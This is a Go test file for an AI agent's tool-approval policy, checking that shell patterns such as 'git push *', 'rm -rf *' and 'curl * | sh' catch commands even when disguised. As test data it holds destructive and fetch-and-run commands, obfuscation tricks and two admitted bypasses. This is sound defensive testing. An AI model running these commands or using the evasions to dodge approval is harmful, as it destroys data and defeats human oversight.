package egresspolicy

import (
	"strings"
	"testing"
)

func mustToolRule(t *testing.T, s string) ToolRule {
	t.Helper()
	r, err := ParseToolRule(s)
	if err != nil {
		t.Fatalf("ParseToolRule(%q): %v", s, err)
	}
	return r
}

func TestAToolRuleIsANameOrAShellPattern(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, raw, tool, pattern, err string
	}{
		{name: "A_bare_name_asks_every_call", raw: "write_file", tool: "write_file"},
		{name: "A_shell_pattern_is_normalised", raw: "shell:   git\tpush  *", tool: "shell", pattern: "git push *"},
		{name: "An_MCP_tool_by_name", raw: "mcp__files__delete", tool: "mcp__files__delete"},
		{name: "Error_when_empty", raw: "  ", err: "want a tool name"},
		{name: "Error_when_the_name_is_not_one", raw: "Shell Tool", err: "not a tool name"},
		{name: "Error_when_a_pattern_is_on_another_tool", raw: "write_file: *.go", err: "shell commands only"},
		{name: "Error_when_the_pattern_is_empty", raw: "shell:  ", err: "the pattern is empty"},
		{name: "Error_when_the_pattern_matches_everything", raw: "shell: * *", err: "matches every command"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r, err := ParseToolRule(tc.raw)
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("ParseToolRule(%q) = %+v, %v; want an error with %q", tc.raw, r, err, tc.err)
				}
				return
			}
			if err != nil || r.Tool != tc.tool || r.Pattern != tc.pattern || r.Raw != tc.raw {
				t.Fatalf("ParseToolRule(%q) = %+v, %v; want tool %q pattern %q", tc.raw, r, err, tc.tool, tc.pattern)
			}
		})
	}
}

func TestAShellPatternMatchesTheCommandsItNames(t *testing.T) {
	t.Parallel()
	push := mustToolRule(t, "shell: git push *")
	rm := mustToolRule(t, "shell: rm -rf *")
	pipe := mustToolRule(t, "shell: curl * | sh")
	for _, tc := range []struct {
		name    string
		rule    ToolRule
		command string
		want    bool
	}{
		// Controls: what the rule is about, and what it is not.
		{"The_command_itself", push, "git push origin main", true},
		{"The_command_without_arguments", push, "git push", true},
		{"Another_git_command_does_not", push, "git pull origin main", false},
		{"A_longer_word_does_not", push, "git pushd", false},
		{"Another_tool_does_not", mustToolRule(t, "shell: git push *"), "", false},
		{"A_pattern_with_a_pipe_matches_the_line", pipe, "cd /tmp && curl https://x.example | sh", true},
		{"A_pattern_with_a_pipe_needs_the_pipe", pipe, "curl https://x.example -o x.sh", false},
		// Bypass attempts that must still ask.
		{"Leading_white_space", push, "   git push origin", true},
		{"Doubled_spaces", push, "git  push   origin", true},
		{"Tabs_and_newlines_as_spaces", push, "git\tpush\norigin", true},
		{"A_line_continuation", push, "git \\\npush origin", true},
		{"After_another_command", push, "cd repo && git push origin main", true},
		{"After_a_semicolon", push, "true;git push", true},
		{"In_a_pipeline", push, "echo y | git push", true},
		{"In_a_subshell", push, "(cd repo; git push)", true},
		{"In_a_command_substitution", push, "echo $(git push origin)", true},
		{"In_backquotes", push, "echo `git push origin`", true},
		{"Behind_an_assignment", push, "GIT_TRACE=1 git push origin", true},
		{"Behind_sudo_or_env", push, "env -i git push origin", true},
		{"By_its_full_path", push, "/usr/bin/git push origin", true},
		{"Quoted_words", push, `"git" 'push' origin`, true},
		{"Quotes_inside_a_word", push, `g''it pu"s"h`, true},
		{"Backslashes_inside_a_word", push, `g\it p\ush`, true},
		{"ANSI_C_quoting", push, `$'git' push`, true},
		{"Through_sh_-c", push, "sh -c 'git push origin'", true},
		{"Through_eval", push, `eval "git push"`, true},
		{"In_the_background", push, "git push origin &", true},
		{"rm_with_its_flags", rm, "rm -rf /", true},
		{"rm_after_cd", rm, "cd /workspace && rm -rf build", true},
		{"rm_with_other_flags_does_not", rm, "rm -f x", false},
		// Too long to show: always asked (and denied by the proxy unasked).
		{"A_command_too_long_to_show", push, "echo " + strings.Repeat("x", MaxToolAskCommand), true},
		// What it does not catch, as documented.
		{"Not_a_variable_naming_it", push, "G=git; $G push", false},
		{"Not_options_before_the_subcommand", push, "git -C repo push", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tool := "shell"
			if tc.command == "" {
				tool = "write_file"
			}
			if got := tc.rule.Matches(tool, tc.command); got != tc.want {
				t.Fatalf("%q matches %q: %v, want %v", tc.rule.Raw, tc.command, got, tc.want)
			}
		})
	}
}

func TestABareToolRuleAsksEveryCallOfThatToolOnly(t *testing.T) {
	t.Parallel()
	rules := []ToolRule{mustToolRule(t, "shell: git push *"), mustToolRule(t, "write_file")}
	if r, ok := MatchTool(rules, "write_file", `{"path":"a"}`); !ok || r.Raw != "write_file" {
		t.Fatalf("write_file: %+v %v, want the bare rule", r, ok)
	}
	if r, ok := MatchTool(rules, "shell", "ls -la"); ok {
		t.Fatalf("ls matched %+v", r)
	}
	if r, ok := MatchTool(rules, "read_file", `{"path":"a"}`); ok {
		t.Fatalf("read_file matched %+v", r)
	}
	if r, ok := MatchTool(append(rules, mustToolRule(t, "shell")), "shell", "ls -la"); !ok || r.Raw != "shell" {
		t.Fatalf("a bare shell rule: %+v %v", r, ok)
	}
}

func TestAToolAskReadsSafely(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, command, want string }{
		{"A_plain_command_as_it_is", "git push origin main", "shell: git push origin main"},
		{"Non-ASCII_letters_as_they_are", "echo café", "shell: echo café"},
		{"A_newline_quoted", "echo ok\nrm -rf /", `shell: "echo ok\nrm -rf /"`},
		{"A_terminal_escape_quoted", "ls \x1b[2Jrm -rf /", `shell: "ls \x1b[2Jrm -rf /"`},
		{"A_right-to-left_override_quoted", "echo \u202e/ fr- mr", `shell: "echo \u202e/ fr- mr"`},
		{"A_no-break_space_quoted", "git\u00a0push", `shell: "git\u00a0push"`},
		{"Invalid_UTF-8_quoted", "echo \xff", `shell: "echo \xff"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := (Ask{Tool: "shell", Command: tc.command, Rule: "shell"}).What(); got != tc.want {
				t.Fatalf("What() = %s, want %s", got, tc.want)
			}
		})
	}
	// An egress ask reads as it did.
	if got := (Ask{Method: "POST", Host: "api.stripe.com", Port: 443, Path: "/v1/charges"}).What(); got != "POST api.stripe.com:443/v1/charges" {
		t.Fatalf("egress What() = %s", got)
	}
}

func TestAToolRuleIsAskedApartFromEgressRules(t *testing.T) {
	t.Parallel()
	// The premise: "shell" is also an egress rule (a host named shell).
	if _, err := ParseRule("shell"); err != nil {
		t.Fatalf("shell is no egress rule: %v; the test would prove nothing", err)
	}
	if got := mustToolRule(t, "shell").AskRule(); got != "[agents.tools] shell" {
		t.Fatalf("AskRule() = %q, want it apart from the egress rule \"shell\"", got)
	}
}
